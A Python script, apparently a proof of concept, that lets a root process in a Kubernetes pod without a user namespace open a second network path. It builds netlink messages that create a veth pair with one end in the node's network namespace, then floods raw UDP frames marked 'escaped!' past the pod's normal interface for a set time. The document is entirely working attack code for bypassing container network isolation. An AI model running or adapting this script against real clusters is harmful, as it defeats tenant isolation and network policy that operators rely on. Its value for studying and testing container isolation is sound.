#!/usr/bin/env python3
"""A second way out, as root in a pod without a user namespace can make one: a veth whose other end is in the node's
namespace. Frames follow at once, from before the answer to the request, until the time is up.

usage: second-veth.py NAME SOURCE DESTINATION PORT SECONDS [NESTED]
  NAME      of the end in the node's namespace
  PORT      UDP, of the destination: the receiver tells the frames by it
  NESTED    a file of a network namespace: our end is there, and not in the pod's

Prints what it sent.
"""
import ctypes
import os
import socket
import struct
import sys
import time

RTM_NEWLINK = 16
IFLA_ADDRESS, IFLA_IFNAME, IFLA_LINKINFO, IFLA_NET_NS_FD, IFLA_TARGET_NETNSID = 1, 3, 18, 28, 46
NLM_F_EXCL, NLM_F_CREATE = 0x200, 0x400
IFLA_INFO_KIND, IFLA_INFO_DATA, VETH_INFO_PEER = 1, 2, 1
IFF_UP = 1
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
CLONE_NEWNET = 0x40000000
NODE_MAC = bytes.fromhex("02ea00000001")
OWN_MAC = bytes.fromhex("02ea00000002")
INNER = b"second0\0"


def attr(kind, data):
    size = 4 + len(data)
    return struct.pack("=HH", size, kind) + data + bytes(-size % 4)


def ifinfo(flags):
    return struct.pack("=BxHiII", 0, 0, 0, flags, flags)


def ask(nl, kind, flags, body):
    nl.send(struct.pack("=IHHII", 16 + len(body), kind, 0x1 | 0x4 | flags, 1, 0) + body)
    error = struct.unpack_from("=i", nl.recv(65536), 16)[0]
    if error:
        raise OSError(-error, os.strerror(-error))


def make_pair(name, own):
    """The node's end is up from its first moment; ours cannot be, and follows."""
    peer = ifinfo(0) + attr(IFLA_IFNAME, INNER) + attr(IFLA_ADDRESS, OWN_MAC) + attr(IFLA_NET_NS_FD, struct.pack("=i", own))
    info = attr(IFLA_INFO_KIND, b"veth\0") + attr(IFLA_INFO_DATA, attr(VETH_INFO_PEER, peer))
    # 0: how a pod's namespace numbers that of its interface's other end, the first that it came to know.
    body = ifinfo(IFF_UP) + attr(IFLA_TARGET_NETNSID, struct.pack("=i", 0))
    body += attr(IFLA_IFNAME, name.encode() + b"\0") + attr(IFLA_ADDRESS, NODE_MAC) + attr(IFLA_LINKINFO, info)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as nl:
        ask(nl, RTM_NEWLINK, NLM_F_CREATE | NLM_F_EXCL, body)
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.setns(own, CLONE_NEWNET) != 0:
        raise OSError("setns")
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as nl:
        ask(nl, RTM_NEWLINK, 0, ifinfo(IFF_UP) + attr(IFLA_IFNAME, INNER))


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(source, destination, port):
    udp = struct.pack("!HHHH", 40000, port, 16, 0) + b"escaped!"
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(destination))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return NODE_MAC + OWN_MAC + b"\x08\x00" + head + udp


def main():
    name, source, destination, port, seconds = sys.argv[1:6]
    own = os.open(sys.argv[6] if len(sys.argv) > 6 else "/proc/self/ns/net", os.O_RDONLY)
    data = frame(source, destination, int(port))
    make_pair(name, own)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    sock.bind((INNER[:-1].decode(), 0))
    sent = 0
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        try:
            sock.send(data)
            sent += 1
        except OSError:
            pass
    print(sent)


main()
